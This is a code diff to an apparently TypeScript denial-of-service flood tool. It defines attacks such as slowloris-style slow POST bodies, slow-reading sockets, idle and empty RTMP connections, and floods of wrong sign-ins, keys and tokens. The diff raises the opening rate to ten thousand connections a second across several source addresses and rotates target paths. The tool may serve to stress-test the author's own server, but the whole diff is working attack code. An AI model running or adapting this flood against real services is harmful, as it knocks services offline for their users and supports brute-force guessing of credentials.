@@ -16,8 +16,8 @@ export type Attack =
   | { readonly kind: 'pings'; readonly path: string; readonly sockets: number }
   | { readonly kind: 'emptyRtmp'; readonly sockets: number; readonly bytesPerSecond: number }
   | { readonly kind: 'idle'; readonly sockets: number }
-  | { readonly kind: 'slowPost'; readonly path: string; readonly sockets: number }
-  | { readonly kind: 'slowReaders'; readonly path: string; readonly sockets: number }
+  | { readonly kind: 'slowPost'; readonly paths: readonly string[]; readonly sockets: number }
+  | { readonly kind: 'slowReaders'; readonly path: string; readonly sockets: number; readonly perSecond: number }
   | { readonly kind: 'wrongSignIns'; readonly path: string; readonly email: string; readonly atOnce: number }
   | { readonly kind: 'wrongRtmpKeys'; readonly perSecond: number }
   | { readonly kind: 'wrongTokens'; readonly path: string; readonly perSecond: number }
@@ -36,8 +36,8 @@ export interface Flood {
 /** What it did so far. */
 export type Counts = Record<'opened' | 'ended' | 'failed' | 'sentBytes' | 'asked' | 'refused' | 'served', number>;
 
-/** Of connections that are opened at first: ten thousand a second. */
-const OPENED_PER_TURN = 100;
+/** Of connections that are opened at first. */
+const OPENED_PER_SECOND = 10_000;
 const TURN_MS = 10;
 /** An address that was cut comes again. */
 const AGAIN_MS = 500;
@@ -58,19 +58,19 @@ export function begin(flood: Flood, counts: Counts): void {
     case 'nothing':
       break;
     case 'pings':
-      hold(flood, counts, attack.sockets, pings(flood, counts, attack.path));
+      hold(flood, counts, attack, pings(flood, counts, attack.path));
       break;
     case 'emptyRtmp':
-      hold(flood, counts, attack.sockets, emptyRtmp(counts, attack.bytesPerSecond));
+      hold(flood, counts, attack, emptyRtmp(counts, attack.bytesPerSecond));
       break;
     case 'idle':
-      hold(flood, counts, attack.sockets, () => undefined);
+      hold(flood, counts, attack, () => undefined);
       break;
     case 'slowPost':
-      hold(flood, counts, attack.sockets, slowPost(flood, attack.path));
+      hold(flood, counts, attack, slowPost(flood, attack.paths));
       break;
     case 'slowReaders':
-      hold(flood, counts, attack.sockets, (socket) => {
+      hold(flood, counts, attack, (socket) => {
         socket.pause();
         socket.write(`GET ${attack.path} HTTP/1.1\r\nhost: ${flood.host}\r\n\r\n`);
       });
@@ -94,7 +94,7 @@ export function begin(flood: Flood, counts: Counts): void {
 function hold(
   { addresses, host, port }: Flood,
   counts: Counts,
-  perAddress: number,
+  { sockets, perSecond = OPENED_PER_SECOND }: { readonly sockets: number; readonly perSecond?: number },
   use: (socket: Socket) => void,
 ): void {
   const open = (localAddress: string): void => {
@@ -112,11 +112,11 @@ function hold(
       setTimeout(() => open(localAddress), AGAIN_MS);
     });
   };
-  const wanted = Array.from({ length: perAddress }, () => addresses).flat();
-  const turns = setInterval(() => {
-    wanted.splice(0, OPENED_PER_TURN).forEach(open);
-    if (wanted.length === 0) clearInterval(turns);
-  }, TURN_MS);
+  const wanted = Array.from({ length: sockets }, () => addresses).flat();
+  repeat(perSecond, () => {
+    const address = wanted.shift();
+    if (address !== undefined) open(address);
+  });
 }
 
 /** Calls so often in even turns. */
@@ -207,10 +207,11 @@ const rtmpCall = (
   encodeMessage(commandMessage({ name, transactionId, streamId, values }), { chunkStreamId: 3, chunkBytes: 128 });
 
 /** A body that comes byte by byte. */
-function slowPost({ host }: Flood, path: string): (socket: Socket) => void {
+function slowPost({ host }: Flood, paths: readonly string[]): (socket: Socket) => void {
   const head = ['content-type: application/json', 'content-length: 5000'].join('\r\n');
+  let count = 0;
   return (socket) => {
-    socket.write(`POST ${path} HTTP/1.1\r\nhost: ${host}\r\n${head}\r\n\r\n{`);
+    socket.write(`POST ${paths[count++ % paths.length]} HTTP/1.1\r\nhost: ${host}\r\n${head}\r\n\r\n{`);
     const timer = setInterval(() => socket.write(' '), TRICKLE_MS);
     socket.once('close', () => clearInterval(timer));
   };
